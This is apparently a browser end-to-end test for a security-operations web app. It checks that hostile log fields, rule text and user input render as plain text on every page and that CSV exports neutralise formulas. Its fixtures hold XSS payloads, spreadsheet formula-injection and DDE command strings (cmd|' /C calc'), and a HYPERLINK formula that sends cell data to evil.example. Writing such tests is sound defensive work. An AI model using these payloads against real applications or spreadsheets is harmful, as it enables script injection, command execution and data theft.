// Every string the UI shows from a log is attacker-controlled. Events whose fields carry <script>, <img onerror>,
// <svg onload>, javascript: URLs and spreadsheet formulas are ingested through the upload form and shown on
// every page that shows them (detections and the drawer, the rule, the incident, a case, a hunt); the test
// asserts that nothing ran (a window flag, no dialog, no CSP violation, no page error, no live handler or
// script element in the DOM) and that the CSV exports are neutralised.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { addUser, PASSWORD, signIn } from '../server/support.js';
import { browserTest, liveServer, openBrowser, screenshot, signInAs, violations } from './support.js';

const HOSTILE = {
  script: `<script>window.__pwned='script'</script>`,
  img: `<img src=x onerror="window.__pwned='img';alert('img')">`,
  svg: `<svg onload="window.__pwned='svg'"></svg>`,
  js: `javascript:window.__pwned='js';alert(1)//`,
  formula: `=HYPERLINK("http://evil.example/?d="&A1,"open")`,
  plus: `+cmd|' /C calc'!A0`,
  at: `@SUM(1+1)*cmd|' /C calc'!A0`,
  minus: `-2+3+cmd|' /C calc'!A0`,
};

function hostileEvidence(dir: string): string {
  const event = (record: number, time: string, data: Record<string, string>) =>
    JSON.stringify({
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
          EventID: 1,
          TimeCreated: { '#attributes': { SystemTime: time } },
          EventRecordID: record,
          Channel: 'Microsoft-Windows-Sysmon/Operational',
          // A host name a spreadsheet would take for a formula, and markup.
          Computer: `@SUM(1+1)<img src=x onerror="window.__pwned='host'">`,
        },
        EventData: data,
      },
    });
  const path = join(dir, 'hostile.jsonl');
  writeFileSync(
    path,
    [
      event(1, '2026-05-10T02:00:00Z', {
        Image: HOSTILE.formula,
        CommandLine: `cmd.exe /c echo ${HOSTILE.script} ${HOSTILE.img}`,
        ParentImage: HOSTILE.plus,
        User: HOSTILE.at,
        TargetUrl: HOSTILE.js,
        Description: HOSTILE.svg,
        Company: HOSTILE.minus,
      }),
      event(2, '2026-05-10T02:01:00Z', { Image: 'C:\\Windows\\notepad.exe', CommandLine: 'notepad.exe' }),
    ].join('\n') + '\n',
  );
  return path;
}

const RULE = `title: Hostile <script>window.__pwned='rule'</script> <img src=x onerror="window.__pwned='rule-img'">
id: 7e57a11e-0000-4000-8000-00000000beef
description: ${HOSTILE.js}
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    CommandLine|contains: '<script>'
  condition: selection
level: high
tags:
  - attack.execution
  - attack.t1059
`;

browserTest(
  'hostile text from logs is shown as text everywhere, nothing in it runs, and CSV exports are neutralised',
  async () => {
    const dir = mkdtempSync(join(tmpdir(), 'vigil-hostile-'));
    writeFileSync(join(dir, 'hostile-rule.yml'), RULE);
    const evidence = hostileEvidence(dir);
    const t = await liveServer({ rulePaths: [dir] });
    const browser = await openBrowser();
    const { page } = browser;
    const nav = (name: string) =>
      page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name, exact: true });
    const nothingRan = async (where: string) => {
      assert.equal(await page.evaluate('window.__pwned'), undefined, `${where}: injected script ran`);
      assert.deepEqual(browser.dialogs, [], `${where}: a dialog opened`);
      assert.deepEqual(await violations(page), [], `${where}: CSP violations`);
      assert.deepEqual(browser.errors, [], `${where}: page errors`);
      // Nothing from the data became markup: no handler attributes, no script element but the bundle, no javascript: link.
      const live = await page.evaluate<number>(
        `document.querySelectorAll('[onerror],[onload],[onclick],script:not([src]),a[href^="javascript:" i],iframe,object,embed').length`,
      );
      assert.equal(live, 0, `${where}: live markup from data`);
    };
    try {
      await addUser(t.store, 'ana', 'analyst', 'RED');
      const api = await signIn(t.server, 'ana');
      await addUser(t.store, 'coord', 'coordinator', 'RED');
      const coord = await signIn(t.server, 'coord');
      const org = await coord.request('PUT', '/api/organisations/evil', {
        id: 'evil',
        name: `Evil ${HOSTILE.img}`,
        sectors: [],
        country: null,
        networks: [],
        asns: [],
        domains: [],
        contacts: [{ email: 'soc@evil.example', name: HOSTILE.script }],
      });
      assert.equal(org.statusCode, 200, org.body);

      await signInAs(page, t.url, 'ana', PASSWORD);
      await page.getByRole('heading', { name: 'Dashboard' }).waitFor();
      await nav('Evidence').click();
      await page.locator('input[type=file][name=evidence]').setInputFiles(evidence);
      await page.getByRole('button', { name: 'Upload and ingest' }).click();
      const job = page.getByRole('table', { name: 'Ingest jobs' }).locator('tbody tr').first();
      await job.locator('.status-done').waitFor({ timeout: 60_000 });
      assert.equal((await job.locator('td').allInnerTexts())[5], '1', 'one detection');

      // The timeline and the drawer show the text as it is.
      await nav('Detections').click();
      await page
        .getByTestId('detections-count')
        .filter({ hasText: /^1 detections$/ })
        .waitFor();
      const row = page.locator('.vbody .vrow').first();
      assert.ok((await row.innerText()).includes(`Hostile <script>window.__pwned='rule'</script>`));
      await row.click();
      const drawer = page.getByRole('complementary', { name: 'Detection detail' });
      const fields = await drawer.getByRole('table', { name: 'Fields' }).innerText();
      for (const value of [HOSTILE.formula, HOSTILE.plus, HOSTILE.at, HOSTILE.js, HOSTILE.svg, HOSTILE.minus])
        assert.ok(fields.includes(value), `the drawer shows ${value}`);
      assert.ok(fields.includes(HOSTILE.script) && fields.includes(HOSTILE.img));
      await drawer
        .getByLabel('Rule YAML')
        .filter({ hasText: "description: javascript:window.__pwned='js'" })
        .waitFor();
      await screenshot(page, 'hostile-text');
      await nothingRan('detections');

      // The CSV export: formulas are neutralised, the text is otherwise intact.
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Export CSV' }).click(),
      ]);
      const csv = readFileSync(await download.path(), 'utf8');
      assert.match(csv, /^"time","level","rule","rule id","host","tags","fields"\r\n/);
      const cells = [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replace(/""/g, '"'));
      for (const cell of cells)
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${cell}`);
      assert.ok(cells.some((c) => c.startsWith(`Hostile <script>`)));
      assert.ok(
        cells.includes(`'@SUM(1+1)<img src=x onerror="window.__pwned='host'">`),
        'the host cell is kept, as text, behind an apostrophe',
      );

      // A case opened from it, with hostile comment and observable; its observables export.
      await drawer.getByRole('button', { name: 'Open a case from this detection' }).click();
      await page.getByRole('heading', { name: /VIGIL#1/ }).waitFor();
      assert.ok(
        (await page.getByRole('heading', { level: 1 }).innerText()).includes(
          `<script>window.__pwned='rule'</script>`,
        ),
      );
      await page.getByLabel('New comment').fill(`${HOSTILE.img} ${HOSTILE.js}`);
      await page.getByRole('button', { name: 'Comment' }).click();
      await page.getByRole('list', { name: 'Comments' }).getByText(HOSTILE.js, { exact: false }).waitFor();
      await page.getByLabel('Observable type').selectOption('account');
      await page.getByLabel('Observable value').fill(HOSTILE.plus);
      await page.getByRole('button', { name: 'Add', exact: true }).click();
      await page.getByRole('table', { name: 'Observables' }).getByText(HOSTILE.plus).waitFor();
      const [observables] = await Promise.all([
        page.waitForEvent('download'),
        page
          .getByRole('region', { name: /Observables/ })
          .getByRole('button', { name: 'Export CSV' })
          .click(),
      ]);
      const observablesCsv = readFileSync(await observables.path(), 'utf8');
      assert.ok(observablesCsv.includes(`"'${HOSTILE.plus.replace(/"/g, '""')}"`), observablesCsv);
      await nothingRan('case');

      // The incident built from it, and a hunt over the stored events.
      const incidents = (await api.request('GET', '/api/incidents')).json<{ id: string }[]>();
      assert.equal(incidents.length, 1);
      await page.goto(`${t.url}/#/incidents/${incidents[0]!.id}`);
      await page.getByRole('heading', { name: 'Spread' }).waitFor();
      assert.ok(
        (await page.getByRole('region', { name: 'Summary' }).innerText()).includes(
          `@SUM(1+1)<img src=x onerror=`,
        ),
      );
      await nothingRan('incident');
      await nav('Hunt').click();
      await page.getByLabel('Sigma rule (one or more YAML documents)').fill(RULE);
      await page.getByRole('button', { name: 'Run' }).click();
      const results = page.getByRole('table', { name: 'Hunt results' });
      await results.locator('tbody tr').first().waitFor();
      assert.ok((await results.innerText()).includes(HOSTILE.script));
      // Saved for the team, under a hostile name, and loaded back.
      await page.getByLabel('Save as').fill(`Hunt ${HOSTILE.img}`);
      await page.getByRole('button', { name: 'Save hunt' }).click();
      const saved = page.getByRole('list', { name: 'Saved hunts' });
      await saved.getByRole('button', { name: `Hunt ${HOSTILE.img}`, exact: true }).waitFor();
      await page.getByLabel('Sigma rule (one or more YAML documents)').fill('');
      await saved.getByRole('button', { name: `Hunt ${HOSTILE.img}`, exact: true }).click();
      assert.equal(await page.getByLabel('Sigma rule (one or more YAML documents)').inputValue(), RULE);
      await screenshot(page, 'hunt');
      await nothingRan('hunt');
      await nav('Constituency').click();
      await page.getByRole('table', { name: 'Organisations' }).getByText(`Evil ${HOSTILE.img}`).waitFor();
      await nothingRan('constituency');
    } finally {
      await browser.close();
      await t.close();
    }
  },
);
